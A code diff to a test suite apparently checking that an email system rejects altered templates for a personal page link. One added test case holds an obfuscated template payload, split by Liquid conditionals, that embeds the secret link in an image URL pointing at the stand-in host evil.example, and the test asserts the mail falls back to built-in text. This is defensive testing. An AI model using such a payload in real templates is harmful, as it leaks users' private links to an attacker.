@@ -183,12 +183,19 @@ describe('the link to a page of one’s own', () => {
     expect(mailServer.to(email)).toEqual([]);
   });
 
-  it('is sent with the built-in text where a template changes it by a filter', async () => {
+  it.each([
+    ['changes it by a filter', '<p>{{ link | upcase }}</p>'],
+    [
+      'sends it to another server',
+      `<{% if link == 'z' %} {% endif %}img alt=">" src="https:/{% if link == 'z' %} {% endif %}/evil.example/? {{ link }} "><p>{{ link }}</p>`,
+    ],
+  ])('is sent with the built-in text where a template %s', async (_, text) => {
     const [{ body }] = await rows(`select body from email_templates where key = 'person_link'`);
     await rows('alter table email_templates disable trigger check_template_secrets');
     await rows(
-      `update email_templates set body = jsonb_build_object('en', '<p>{{ link | upcase }}</p>', 'sv', body ->> 'sv')
+      `update email_templates set body = jsonb_build_object('en', $1::text, 'sv', body ->> 'sv')
        where key = 'person_link'`,
+      [text],
     );
     const { email, id } = await applied();
     const mail: Mail = {
@@ -201,6 +208,7 @@ describe('the link to a page of one’s own', () => {
     const mailId = (await server.database.transaction((query) => enqueueMail(query, mail))) ?? '';
     expect(await deliverMail(mailer, mailId)).toBe('sent');
     expect(await show(keyIn(email))).toMatchObject({ status: 200 });
+    expect(mailServer.to(email).at(-1)?.html).not.toContain('evil.example');
     expect((await newest(email)).last_error).toBe(
       'template: a link or a code is changed or could leak',
     );
